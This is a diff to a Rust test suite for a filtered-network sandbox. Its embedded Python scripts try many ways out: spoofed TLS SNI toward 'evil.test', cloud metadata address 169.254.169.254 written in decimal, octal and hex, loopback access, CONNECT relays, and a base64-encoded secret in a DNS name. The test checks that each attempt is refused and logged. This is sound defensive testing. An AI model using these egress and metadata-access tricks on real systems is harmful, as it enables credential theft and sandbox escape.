@@ -3,13 +3,14 @@
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
 mod common;
+use common::network::{SERVERS, in_a_network};
 use common::{Feature, TestBox, missing};
 use std::net::TcpListener;
 use std::os::linux::net::SocketAddrExt as _;
 use std::os::unix::net::{SocketAddr, UnixListener};
 
-/// `NAME|OUTCOME` for each attack, in their order.
-const ATTACKS: &str = r#"
+/// What attacks and their allowed twins are made of.
+const TOOLS: &str = r#"
 import socket,struct,sys
 LOOPBACK,ABSTRACT=int(sys.argv[1]),sys.argv[2]
 def hello(sni,record=1<<14,more=b''):
@@ -50,6 +51,10 @@ def udp(addr,family=socket.AF_INET):
     s=socket.socket(family,socket.SOCK_DGRAM); s.settimeout(10); s.connect(addr); s.send(b'x'); s.recv(9)
 def unix():
     s=socket.socket(socket.AF_UNIX); s.connect('\0'+ABSTRACT)
+"#;
+
+/// `NAME|OUTCOME` for each attack, in their order.
+const ATTACKS: &str = r#"
 for name,attack in [
  ('sni of another',lambda: tcp('granted.test',443,hello('evil.test'))),
  ('sni in many records',lambda: tcp('granted.test',443,hello('evil.test',3))),
@@ -81,6 +86,8 @@ for name,attack in [
  ('metadata',lambda: tcp('169.254.169.254',80,b'GET / HTTP/1.1\r\nHost: granted.test\r\n\r\n')),
  ('mapped metadata',lambda: tcp('::ffff:169.254.169.254',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
  ('decimal metadata',lambda: tcp('2852039166',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
+ ('octal metadata',lambda: tcp('0251.0376.0251.0376',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
+ ('hexadecimal metadata',lambda: tcp('0xa9fea9fe',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
  ('raw address, high port',lambda: tcp('192.0.2.7',8443)),
  ('host loopback',lambda: tcp('127.0.0.1',LOOPBACK)),
  ('secret in a name',lambda: tcp('c2vjcmv0.evil.test',443)),
@@ -268,6 +275,16 @@ const WANT: &[(&str, &str, Option<Recorded>)] = &[
         "403",
         Some(("169.254.169.254", 80, "no rule grants it")),
     ),
+    (
+        "octal metadata",
+        "403",
+        Some(("169.254.169.254", 80, "no rule grants it")),
+    ),
+    (
+        "hexadecimal metadata",
+        "403",
+        Some(("169.254.169.254", 80, "no rule grants it")),
+    ),
     ("raw address, high port", "refused", None),
     ("host loopback", "refused", None),
     (
@@ -301,7 +318,8 @@ fn every_way_out_is_refused_and_recorded() {
     let b = TestBox::new()
         .net("filtered")
         .option("--allow=granted.test+private");
-    let ran = b.run(["python3", "-c", ATTACKS, &port.to_string(), &name]);
+    let attacks = format!("{TOOLS}{ATTACKS}");
+    let ran = b.run(["python3", "-c", &attacks, &port.to_string(), &name]);
     let text = ran.ok();
     let seen: Vec<(&str, &str)> = text.lines().filter_map(|l| l.split_once('|')).collect();
     let dir = b.home().join(".local/state/agentbox/sessions");
@@ -343,4 +361,94 @@ fn every_way_out_is_refused_and_recorded() {
     }
     assert_eq!(events.next(), None, "nothing else: {told:#?}");
     assert_eq!(seen.len(), WANT.len(), "{ran:?}");
+}
+
+/// The same ways to what is granted, in a network where somebody answers: each must be open.
+const TWINS: &str = r#"
+def proxied(target,data=b''):
+    s=socket.create_connection(('127.0.0.1',1023),10); s.settimeout(15)
+    s.sendall(b'CONNECT '+target.encode()+b' HTTP/1.1\r\nHost: x.test\r\n\r\n')
+    head=b''
+    while not head.endswith(b'\r\n\r\n'):
+        c=s.recv(1)
+        if not c: return 'closed'
+        head+=c
+    if head[9:12]!=b'200': return head[9:12].decode()
+    s.sendall(data); return read(s)
+get=b'GET / HTTP/1.1\r\nHost: granted.test\r\nConnection: close\r\n\r\n'
+def udp_own():
+    a=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); a.bind(('127.0.0.1',5000)); a.settimeout(10)
+    b=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); b.sendto(b'x',('127.0.0.1',5000)); return a.recv(9)
+def unix_own():
+    a=socket.socket(socket.AF_UNIX); a.bind('\0own'); a.listen(); socket.socket(socket.AF_UNIX).connect('\0own')
+for name,way in [
+ ('sni',lambda: tcp('granted.test',443,hello('granted.test'))),
+ ('sni in many records',lambda: tcp('granted.test',443,hello('granted.test',3))),
+ ('encrypted hello, granted outer name',lambda: tcp('granted.test',443,hello('granted.test',more=b'\xfe\x0d\0\4\0\1\2\3'))),
+ ('no sni, marked',lambda: tcp('nosni.test',443,hello(None))),
+ ('no tls, marked',lambda: tcp('plain.test',443,b'SSH-2.0-x\r\n')),
+ ('host',lambda: tcp('granted.test',80,get)),
+ ('absolute form of the host',lambda: http('GET http://granted.test/ HTTP/1.1\nHost: granted.test\nConnection: close\n\n')),
+ ('one length',lambda: http('POST / HTTP/1.1\nHost: granted.test\nConnection: close\nContent-Length: 0\n\n')),
+ ('connect relay, marked',lambda: tcp('plain.test',80,b'CONNECT evil.test:443 HTTP/1.1\r\n\r\n')),
+ ('proxy',lambda: proxied('granted.test:443',hello('granted.test'))),
+ ('proxy, trailing dot',lambda: proxied('granted.test.:443',hello('granted.test'))),
+ ('proxy, metadata',lambda: proxied('169.254.169.254:80',get)),
+ ('proxy, mapped',lambda: proxied('[::ffff:169.254.169.254]:80',get)),
+ ('proxy, host loopback',lambda: proxied('127.0.0.1:8080',get)),
+ ('raw address',lambda: tcp('10.77.0.1',443,hello('whichever.test'))),
+ ('raw ipv6',lambda: tcp('fd77::1',80,get)),
+ ('metadata',lambda: tcp('169.254.169.254',80,get)),
+ ('mapped metadata',lambda: tcp('::ffff:169.254.169.254',80,get)),
+ ('decimal metadata',lambda: tcp('2852039166',80,get)),
+ ('octal metadata',lambda: tcp('0251.0376.0251.0376',80,get)),
+ ('hexadecimal metadata',lambda: tcp('0xa9fea9fe',80,get)),
+ ('raw address, high port',lambda: tcp('10.77.0.1',8443,get)),
+ ('host loopback',lambda: tcp('127.0.0.1',8080,get)),
+ ('a name below',lambda: tcp('c2vjcmv0.below.test',443,hello('c2vjcmv0.below.test'))),
+]:
+    print(name+'|'+str(way()),flush=True)
+print('udp|'+error(udp_own)); print('abstract socket|'+error(unix_own))
+"#;
+
+#[test]
+fn the_same_ways_are_open_to_what_is_granted() {
+    if missing(Feature::Root)
+        || ["unshare", "ip", "python3"]
+            .iter()
+            .any(|tool| missing(Feature::Tool(tool)))
+    {
+        return;
+    }
+    let b = TestBox::new()
+        .net("filtered")
+        .file("servers.py", SERVERS)
+        .file("resolv.conf", "nameserver 127.0.0.2\n")
+        .file(
+            "net.toml",
+            "extends = [\"shell\"]\n[network]\nhost-ports = [8080]\nallow = [\"granted.test+private\", \"nosni.test+private+no-sni\",\
+             \"plain.test:80,443+private+plain\", \"*.below.test+private\", \"10.77.0.0/24:443,8443\", \"[fd77::]/64:80\",\
+             \"169.254.169.254:80\"]\n[network.hosts]\n\"granted.test\" = \"10.77.0.1\"\n\"nosni.test\" = \"10.77.0.1\"\n\
+             \"plain.test\" = \"10.77.0.1\"\n\"c2vjcmv0.below.test\" = \"10.77.0.1\"\n",
+        );
+    let profile = b.root().join("net.toml");
+    let b = b
+        .option("-p")
+        .option(profile.to_str().unwrap())
+        .file("{ws}/twins.py", format!("{TOOLS}{TWINS}"));
+    let ran = in_a_network(
+        &b,
+        "ip addr add 10.77.0.1/32 dev lo && ip addr add 169.254.169.254/32 dev lo && ip -6 addr add fd77::1/128 dev lo nodad || exit 1\n\
+         servers 'web 10.77.0.1@443 a' 'web 10.77.0.1@80 b' 'web 10.77.0.1@8443 c' 'web fd77::1@80 d' 'web 169.254.169.254@80 e' \
+         'web 127.0.0.1@8080 f'",
+        ":",
+        "python3 twins.py 0 x",
+    );
+    let text = ran.ok();
+    for line in text.lines() {
+        let (_, outcome) = line.split_once('|').unwrap();
+        assert!(["200", "done"].contains(&outcome), "{line}: {ran:?}");
+    }
+    assert_eq!(text.lines().count(), 26, "{ran:?}");
+    assert!(!ran.complaint().contains("refused"), "{ran:?}");
 }
